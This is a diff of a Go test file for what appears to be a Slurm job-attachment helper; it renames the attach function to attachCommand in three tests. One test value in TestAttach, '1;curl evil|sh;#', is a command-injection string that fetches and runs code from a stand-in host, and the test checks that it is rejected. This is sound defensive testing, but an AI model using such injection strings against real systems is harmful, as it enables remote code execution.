@@ -47,7 +47,7 @@ func TestCopyKeys(t *testing.T) {
 func TestAttach(t *testing.T) {
 	s := scene(100, 20, noon)
 	for job, want := range map[string]string{"12_4": "--jobid=16 ", "77": "", "1;curl evil|sh;#": "", "": ""} {
-		if got := attach(s, &tally.Target{Node: "n1", Job: job}, "srun"); !strings.Contains(got, want) ||
+		if got := attachCommand(s, &tally.Target{Node: "n1", Job: job}, "srun"); !strings.Contains(got, want) ||
 			(got == "") != (want == "") {
 			t.Errorf("job %q: %q", job, got)
 		}
@@ -70,7 +70,7 @@ func TestAttachThroughALoginHost(t *testing.T) {
 	} {
 		s := scene(100, 20, noon)
 		s.Login, s.Snap.Discovery.User = test.login, test.user
-		if got := attach(s, &tally.Target{Node: "n1", Job: "12_4"}, test.route); got != test.want {
+		if got := attachCommand(s, &tally.Target{Node: "n1", Job: "12_4"}, test.route); got != test.want {
 			t.Errorf("%s over %s: %s, want %s", test.login, test.route, got, test.want)
 		}
 	}
@@ -88,7 +88,7 @@ func TestAttachToAHeterogeneousJob(t *testing.T) {
 		{"3+0", "n1", "--jobid=3 --het-group=0 -w n1 "}, {"3+1", "n2", "--jobid=3 --het-group=1 -w n2 "},
 		{"3+0", "n2", "--jobid=3 --het-group=1 -w n2 "}, {"3+0", "n3", "--jobid=3 --het-group=0 -w n3 "},
 	} {
-		if got := attach(s, &tally.Target{Node: test.node, Job: test.job}, "srun"); !strings.Contains(got, test.want) {
+		if got := attachCommand(s, &tally.Target{Node: test.node, Job: test.job}, "srun"); !strings.Contains(got, test.want) {
 			t.Errorf("job %s on %s: %s", test.job, test.node, got)
 		}
 	}
